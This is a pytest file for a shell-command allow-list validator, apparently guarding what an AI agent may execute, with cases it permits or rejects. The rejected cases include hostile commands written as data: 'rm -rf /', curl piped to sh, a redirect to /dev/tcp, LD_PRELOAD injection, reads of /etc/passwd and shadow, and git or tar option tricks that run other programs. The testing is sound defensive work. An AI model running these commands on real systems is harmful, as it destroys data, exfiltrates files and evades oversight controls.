from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from aiperimeter.policy.constraints.shell import CommandRule, ShellConstraint

RULES = {
    "ls": CommandRule(),
    "grep": CommandRule(),
    "cat": CommandRule(args=[r"[\w./-]+"]),
    "wc": CommandRule(args=[r"-l", r"[\w./-]+", r"[\w/]+\*\.py"]),
    "head": CommandRule(max_args=2),
    "rm": CommandRule(deny_args=[r"^-[a-zA-Z]*[rR]", r"^--recursive"]),
    "find": CommandRule(),
    "git": CommandRule(),
    "tar": CommandRule(),
    "echo": CommandRule(),
    "sh": CommandRule(),
    "env": CommandRule(),
    "python3": CommandRule(),
    "/usr/bin/awk": CommandRule(),
    "xargs": CommandRule(),
    "curl": CommandRule(),
}
STRICT = ShellConstraint(commands=RULES)
OPEN = ShellConstraint(commands=RULES, allow_pipes=True, allow_sequences=True, allow_redirects=True)
INTERPRETER = ShellConstraint(commands={"python3": CommandRule(allow_interpreter=True, args=[r"[\w./-]+\.py"])})


@pytest.mark.parametrize(
    ("constraint", "command"),
    [
        pytest.param(STRICT, "ls -la /srv/data", id="ls"),
        pytest.param(STRICT, 'grep -r "foo bar" src', id="double-quoted-argument"),
        pytest.param(STRICT, "grep -rn 'a|b;c&d' src", id="metacharacters-in-single-quotes"),
        pytest.param(STRICT, "echo '$HOME' \\$PATH", id="quoted-dollar"),
        pytest.param(STRICT, "ls '*.txt' \"[ab]\" \\*", id="quoted-globs"),
        pytest.param(STRICT, "ls #; rm -rf /", id="comment"),
        pytest.param(STRICT, "ls -la\n", id="trailing-newline"),
        pytest.param(STRICT, 'l""s', id="quotes-inside-name"),
        pytest.param(STRICT, "'ls' -la", id="quoted-name"),
        pytest.param(STRICT, "cat a.txt docs/b.md", id="args-match"),
        pytest.param(STRICT, "wc -l src/*.py", id="glob-explicitly-matched"),
        pytest.param(STRICT, "head -5 x", id="max-args-reached"),
        pytest.param(STRICT, "rm notes.txt", id="deny-args-miss"),
        pytest.param(STRICT, "find . -name '*.py' -type f", id="find-without-actions"),
        pytest.param(STRICT, "git switch -c feature", id="git-subcommand-c"),
        pytest.param(STRICT, "git log --oneline -5", id="git-log"),
        pytest.param(STRICT, "tar -czf out.tgz src", id="tar-plain"),
        pytest.param(OPEN, "ls -la | grep x && echo done; cat a.txt > out.txt 2>&1", id="everything-allowed"),
        pytest.param(INTERPRETER, "python3 scripts/report.py", id="interpreter-allowed"),
        pytest.param(STRICT, ["ls", "-la", "$(id)"], id="argv-no-shell"),
        pytest.param(STRICT, ["echo", "a; rm -rf /", "`id`", "*"], id="argv-metacharacters-are-data"),
    ],
)
def test_allowed(constraint: ShellConstraint, command: Any) -> None:
    assert constraint.check(command) is None


@pytest.mark.parametrize(
    ("constraint", "command", "reason"),
    [
        pytest.param(STRICT, "ls; rm -rf /", "command sequences are not allowed", id="semicolon"),
        pytest.param(STRICT, "ls && rm x", "command sequences are not allowed", id="and"),
        pytest.param(STRICT, "ls || rm x", "command sequences are not allowed", id="or"),
        pytest.param(STRICT, "ls &", "command sequences are not allowed", id="background"),
        pytest.param(STRICT, "ls\nrm x", "command sequences are not allowed", id="newline"),
        pytest.param(STRICT, "ls | sh", "pipes are not allowed", id="pipe"),
        pytest.param(STRICT, "ls |& cat", "pipes are not allowed", id="pipe-stderr"),
        pytest.param(OPEN, "ls; rm -rf /", "argument 1 of 'rm' is denied", id="sequence-allowed-rm-denied"),
        pytest.param(OPEN, "ls && curl x | sh", "command 'sh' runs other programs", id="curl-pipe-sh"),
        pytest.param(STRICT, "$(id)", "command substitution is not allowed", id="command-substitution"),
        pytest.param(STRICT, "ls `id`", "command substitution is not allowed", id="backticks"),
        pytest.param(STRICT, 'echo "$(id)"', "command substitution is not allowed", id="substitution-in-quotes"),
        pytest.param(STRICT, "echo x$(id)y", "command substitution is not allowed", id="substitution-mid-word"),
        pytest.param(STRICT, "cat <(id)", "process substitution is not allowed", id="process-substitution"),
        pytest.param(STRICT, "ls $HOME", "parameter expansion is not allowed", id="variable"),
        pytest.param(STRICT, "ls ${HOME}", "parameter expansion is not allowed", id="braced-variable"),
        pytest.param(STRICT, 'echo "$HOME"', "parameter expansion is not allowed", id="variable-in-quotes"),
        pytest.param(STRICT, "echo $'\\x2fetc'", "parameter expansion is not allowed", id="ansi-c-quoting"),
        pytest.param(STRICT, "LD_PRELOAD=/tmp/x.so ls", "variable assignment is not allowed", id="assignment"),
        pytest.param(STRICT, "PATH=/tmp", "variable assignment is not allowed", id="bare-assignment"),
        pytest.param(STRICT, "{ id; }", "command groups are not allowed", id="group"),
        pytest.param(STRICT, "(ls)", "subshells are not allowed", id="subshell"),
        pytest.param(STRICT, "f() { ls; }", "function definitions are not allowed", id="function"),
        pytest.param(STRICT, "if true; then ls; fi", "compound commands are not allowed", id="if"),
        pytest.param(STRICT, "for i in a; do ls; done", "compound commands are not allowed", id="for"),
        pytest.param(STRICT, "while ls; do ls; done", "compound commands are not allowed", id="while"),
        pytest.param(STRICT, "! ls", "reserved words are not allowed", id="negation"),
        pytest.param(OPEN, "cat <<EOF\nx\nEOF", "heredocs are not allowed", id="heredoc"),
        pytest.param(OPEN, "cat <<< x", "heredocs are not allowed", id="here-string"),
        pytest.param(STRICT, "ls > /etc/passwd", "redirects are not allowed", id="redirect"),
        pytest.param(STRICT, "ls 2>&1", "redirects are not allowed", id="fd-redirect"),
        pytest.param(OPEN, "cat a.txt > /dev/tcp/203.0.113.1/80", "/dev/tcp", id="redirect-to-network"),
        pytest.param(STRICT, "rm -rf /", "argument 1 of 'rm' is denied", id="deny-args"),
        pytest.param(STRICT, "rm -fR /", "argument 1 of 'rm' is denied", id="deny-args-other-order"),
        pytest.param(STRICT, "cat /etc/pass*", "argument 1 of 'cat' does not match the allowed patterns", id="arg"),
        pytest.param(STRICT, "cat a.txt 'b c'", "argument 2 of 'cat' does not match", id="second-arg"),
        pytest.param(STRICT, "head -n 5 x", "'head' takes at most 2 arguments", id="max-args"),
        pytest.param(STRICT, "ls *.txt", "argument 1 of 'ls' has an unquoted glob", id="glob"),
        pytest.param(STRICT, "ls /etc/{passwd,shadow}", "unquoted glob, brace", id="brace"),
        pytest.param(STRICT, "ls ~root", "tilde expansion", id="tilde"),
        pytest.param(STRICT, "l? -la", "command name has a glob", id="glob-command-name"),
        pytest.param(STRICT, "rm -- -rf", "argument 2 of 'rm' is denied", id="dash-dash"),
        pytest.param(STRICT, "sh -c 'id'", "command 'sh' runs other programs or code", id="sh"),
        pytest.param(STRICT, "env sh", "command 'env' runs other programs or code", id="env"),
        pytest.param(STRICT, "python3 -c 'import os'", "command 'python3' runs other programs", id="python"),
        pytest.param(STRICT, "/usr/bin/awk 'BEGIN{system(\"id\")}'", "runs other programs", id="awk-by-path"),
        pytest.param(STRICT, "xargs rm", "command 'xargs' runs other programs", id="xargs"),
        pytest.param(STRICT, "find . -exec rm {} \\;", "command 'find' with -exec", id="find-exec"),
        pytest.param(STRICT, "find . -name x -delete", "command 'find' with -exec", id="find-delete"),
        pytest.param(STRICT, "git -c core.pager=id log", "command 'git' with these options", id="git-c"),
        pytest.param(STRICT, "git -ccore.sshCommand=id fetch", "command 'git' with these options", id="git-c-joined"),
        pytest.param(STRICT, "git fetch --upload-pack=id origin", "command 'git' with these options", id="upload-pack"),
        pytest.param(STRICT, "git rebase -x id main", "command 'git' with these options", id="git-rebase-exec"),
        pytest.param(STRICT, "tar -cf x.tar --to-command=id src", "command 'tar' with these options", id="tar-cmd"),
        pytest.param(STRICT, "tar -xIid -f x.tar", "command 'tar' with these options", id="tar-compress-program"),
        pytest.param(STRICT, "rm\u00a0-rf /", "command 'rm?-rf' is not allowed", id="nbsp-is-not-a-space"),
        pytest.param(STRICT, "ⅼs", "command 'ⅼs' is not allowed", id="unicode-lookalike"),
        pytest.param(STRICT, "/bin/ls", "command '/bin/ls' is not allowed", id="path-is-another-command"),
        pytest.param(STRICT, "time ls", "unparsable shell", id="time-keyword"),
        pytest.param(STRICT, "echo $((1+2))", "unparsable shell", id="arithmetic"),
        pytest.param(STRICT, "ls '", "unparsable shell", id="unterminated-quote"),
        pytest.param(STRICT, "ls &&", "unparsable shell", id="dangling-operator"),
        pytest.param(STRICT, "", "empty command", id="empty"),
        pytest.param(STRICT, "ls\x00-la", "NUL byte", id="nul"),
        pytest.param(STRICT, 5, "command must be a string or a list of strings", id="not-a-string"),
        pytest.param(STRICT, [], "argv must be a non-empty list of strings", id="empty-argv"),
        pytest.param(STRICT, ["ls", 5], "argv must be a non-empty list of strings", id="argv-non-string"),
        pytest.param(STRICT, ["sh", "-c", "id"], "command 'sh' runs other programs", id="argv-interpreter"),
        pytest.param(STRICT, ["rm", "-rf", "/"], "argument 1 of 'rm' is denied", id="argv-deny-args"),
        pytest.param(STRICT, ["ls", "a\x00b"], "NUL byte", id="argv-nul"),
        pytest.param(INTERPRETER, "python3 -c 'import os'", "argument 1 of 'python3' does not match", id="interp-args"),
    ],
)
def test_denied(constraint: ShellConstraint, command: Any, reason: str) -> None:
    got = constraint.check(command)
    assert got is not None and reason in got


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        pytest.param({"commands": {"ls": {"args": ["(unclosed"]}}}, "is not a valid RE2 pattern", id="bad-regex"),
        pytest.param({"commands": {"ls": {"deny_args": ["(a)\\1"]}}}, "is not a valid RE2 pattern", id="backreference"),
        pytest.param({"commands": {"ls": {"max_args": -1}}}, "max_args must be 0 or more", id="negative-max"),
        pytest.param({"commands": {"ls -la": {}}}, "without spaces", id="name-with-space"),
        pytest.param({"commands": {"": {}}}, "must be non-empty", id="empty-name"),
        pytest.param({"commands": {"ls": {"allow_interpreters": True}}}, "Extra inputs", id="unknown-rule-field"),
        pytest.param({}, "commands", id="commands-required"),
    ],
)
def test_load_time_errors(fields: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError) as error:
        ShellConstraint(**fields)
    assert message in str(error.value)


def test_reasons_never_hold_arguments() -> None:
    secret = "ghp_4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e"
    for command in (f"cat '{secret} x'", f"curl -H 'Authorization: {secret}' $HOME", f"rm -rf {secret}"):
        reason = STRICT.check(command)
        assert reason is not None and secret not in reason


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ls rm-;|&$(){}`'\"\\<>*?~#=\n!ab/", max_size=60))
def test_check_never_raises(command: str) -> None:
    reason = OPEN.check(command)
    assert reason is None or isinstance(reason, str)


PLAIN_WORD = st.text(alphabet="abcXYZ019_./,:@%+=-", min_size=1, max_size=8)


@settings(max_examples=400, deadline=None)
@given(st.lists(PLAIN_WORD, min_size=1, max_size=6))
def test_plain_lines_read_as_bash_reads_them(words: list[str]) -> None:
    """Lines of plain words skip the parser: what they judge must be what bashlex (and bash) would read."""
    import bashlex

    if "=" in words[0]:
        return  # may be an assignment: such lines go to the parser
    line = " ".join(words)
    tree = bashlex.parse(line)
    assert len(tree) == 1 and tree[0].kind == "command"
    assert [part.kind for part in tree[0].parts] == ["word"] * len(words)
    assert [part.word for part in tree[0].parts] == words
    listed = ShellConstraint.model_validate({"commands": {words[0]: {}}})
    assert listed.check(line) == listed.check(words)  # the same verdict as the argv form, which no shell reads
